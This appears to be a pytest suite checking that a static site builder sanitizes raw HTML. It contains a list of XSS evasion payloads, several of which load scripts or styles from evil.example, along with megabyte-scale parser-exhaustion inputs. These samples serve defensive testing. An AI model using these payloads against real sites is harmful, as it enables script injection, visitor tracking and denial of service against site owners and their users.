"""Raw HTML a site keeps (`allow_raw_html: true`) as a browser reads it: no attack runs a script,
applies a style or loads anything from another host; and a megabyte of hostile HTML builds in
well under a second with the release binary."""
import pathlib
import subprocess
import time

import pytest

from conftest import requests_made, roadmap_binary

# Attacks from issue 13 and OWASP's XSS filter evasion cheat sheet, each an HTML block of the page.
ATTACKS = [
    '<img src="logo.png" onerror="window.hit=1">',
    '<a href="#a" onclick="window.hit=1">x</a>',
    '<svg><a xlink:href="javascript:window.hit=1"><text x="0" y="15">x</text></a></svg>',
    '<form><button formaction="javascript:window.hit=1">Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<img srcset="https://evil.example/a.png 2x" src="logo.png">',
    '<p style="background:url(https://evil.example/x)">styled</p>',
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    '<img src="https://evil.example/track.png" alt="pixel">',
    '<img src="//evil.example/x.png">',
    '<picture><source srcset="https://evil.example/d.png"><img src="logo.png"></picture>',
    '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
    '<ScRiPt>window.hit=1</sCrIpT>',
    '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
    '<SCRIPT a=">" SRC="https://evil.example/xss.js"></SCRIPT>',
    '<IMG """><SCRIPT>window.hit=1</SCRIPT>">',
    '<svg/onload=window.hit=1>',
    '<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1></style></mglyph></table></mtext></math>',
    '<noscript><p title="</noscript><img src=x onerror=window.hit=1>"></noscript>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.hit=1">entities</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A window.hit=1">hex</a>',
    '<a href="jav&#x09;ascript:window.hit=1">tab</a>',
    '<a href="javascript&colon;window.hit=1">colon</a>',
    '<a href=" &#14;  javascript:window.hit=1">spaces</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">data</a>',
    '<IMG SRC=JaVaScRiPt:window.hit=1 alt=case>',
    '<b/onclick="window.hit=1">slash</b>',
    '<DIV STYLE="background-image: url(javascript:window.hit=1)">div</DIV>',
    '<iframe src="https://evil.example"></iframe>',
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/s.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">',
    "<!--[if gte IE 4]><SCRIPT>window.hit=1</SCRIPT><![endif]-->",
    "<!--> <img src=x onerror=window.hit=1> -->",
    "<![CDATA[<script>window.hit=1</script>]]>",
    '<video src="https://evil.example/v.mp4" autoplay>fallback</video>',
    '<a title=\'x" onmouseover="window.hit=1\'>quote</a>',
    "</div></main></article>",
]

# Kept as a browser reads them: elements, attributes and URL schemes an attack could use.
CHECK_PAGE = """
const content = document.querySelector('.roadmap-content');
const problems = [];
const allowed = new Set(%s);
for (const element of content.querySelectorAll('*')) {
  const name = element.localName;
  if (!allowed.has(name)) problems.push('element ' + name);
  for (const attribute of element.attributes) {
    const attributeName = attribute.name.toLowerCase();
    if (attributeName.startsWith('on') || attributeName === 'style' || attributeName === 'srcset'
        && !attribute.value.split(',').every(part => new URL(part.trim().split(/\\s+/)[0], document.baseURI).href.startsWith(arguments[0])))
      problems.push(name + ' ' + attributeName + '=' + attribute.value);
  }
  if (name === 'a' && element.hasAttribute('href') && !['http:', 'https:', 'mailto:', 'file:'].includes(element.protocol))
    problems.push('link ' + element.href);
  if ((name === 'img' || name === 'source') && element.hasAttribute('src') && !element.src.startsWith(arguments[0]))
    problems.push('image ' + element.src);
}
if (window.hit) problems.push('a script ran');
if (document.querySelector('base, meta[http-equiv], link[href*="evil"]')) problems.push('head changed');
if (getComputedStyle(document.body).display === 'none') problems.push('a style applied');
return problems;
"""

ALLOWED = ["h1", "h2", "h3", "h4", "h5", "h6", "p", "div", "span", "br", "hr", "wbr", "b", "i", "strong", "em", "s",
           "strike", "sup", "sub", "small", "mark", "kbd", "code", "pre", "samp", "var", "tt", "q", "cite", "abbr",
           "dfn", "bdo", "ins", "del", "time", "ruby", "rt", "rp", "blockquote", "figure", "figcaption", "details",
           "summary", "a", "img", "picture", "source", "ul", "ol", "li", "dl", "dt", "dd", "table", "caption", "thead",
           "tbody", "tfoot", "tr", "td", "th",
           # What the page itself puts in the content: anchor links, task lists, table wrappers.
           "input"]


@pytest.fixture(scope="module")
def attack_site(tmp_path_factory):
    """A one-roadmap site with every attack, raw HTML allowed."""
    root = tmp_path_factory.mktemp("raw-html")
    content = root / "Content"
    content.mkdir()
    (content / "site.yml").write_text("allow_raw_html: true\n")
    (content / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    body = "\n\n".join(f"## Attack {index}\n\n{attack}" for index, attack in enumerate(ATTACKS, 1))
    (content / "attacks.md").write_text("# Attacks\n\n<a name=\"a\"></a>\n\n" + body + "\n")
    site = root / "Site"
    result = subprocess.run([roadmap_binary(), "build", "--quiet", "--content", str(content), "--templates",
                             str(pathlib.Path(__file__).resolve().parents[2] / "Templates"), "--output", str(site)],
                            capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    return site


def test_raw_html_attacks_run_nothing_and_load_nothing(driver, attack_site):
    base = attack_site.as_uri() + "/"
    driver.get(base + "attacks/index.html")
    problems = driver.execute_script(CHECK_PAGE % ALLOWED, base)
    assert problems == []
    for url, _ in requests_made(driver):
        assert url.startswith(base) or url.startswith("data:") or url == "about:blank", f"request left the site: {url}"


# Hostile raw HTML of about a megabyte each, in one HTML block (after `<div>`).
HOSTILE = {
    "attributes": "<a " + "x=1 " * 250_000 + ">",
    "distinct attributes": "<b " + "".join(f"a{i} " for i in range(100_000)) + ">",
    "open tags": "<div>" * 200_000,
    "end tags": "<b>" * 63 + "</i>" * 250_000,
    "open brackets": "<" * 1_000_000,
    "unclosed comment": "<!--" + "-" * 1_000_000,
    "script text": "<script>" + "</scrip" * 140_000,
    "references": '<a title="' + "&#1" * 330_000 + '">',
    "long reference": '<a title="&#' + "9" * 1_000_000 + '">',
    "handlers": "<img src=logo.png onerror=y onclick=z>" * 27_000,
    "elements": "".join(f"<x{i}>" for i in range(100_000)),
    "unclosed quote": '<a title="' + "x" * 1_000_000,
    "srcset": '<img src=logo.png srcset="' + "logo.png 1x," * 80_000 + '">',
    "tables": "<table><tr><td>" * 60_000,
}


@pytest.mark.parametrize("shape", sorted(HOSTILE))
def test_a_megabyte_of_hostile_raw_html_builds_in_well_under_a_second(shape, tmp_path):
    content = tmp_path / "Content"
    content.mkdir()
    (content / "site.yml").write_text("allow_raw_html: true\n")
    (content / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    (content / "a.md").write_text("# A\n\n<div>\n" + HOSTILE[shape] + "\n")
    start = time.monotonic()
    result = subprocess.run([roadmap_binary(), "build", "--quiet", "--content", str(content), "--templates",
                             str(pathlib.Path(__file__).resolve().parents[2] / "Templates"), "--output",
                             str(tmp_path / "Site")], capture_output=True, text=True)
    elapsed = time.monotonic() - start
    assert result.returncode == 0, result.stderr
    assert elapsed < 1.0, f"{shape}: {elapsed:.2f} s"
    written = sum(path.stat().st_size for path in (tmp_path / "Site").rglob("*") if path.is_file())
    assert written < 10 * (content / "a.md").stat().st_size
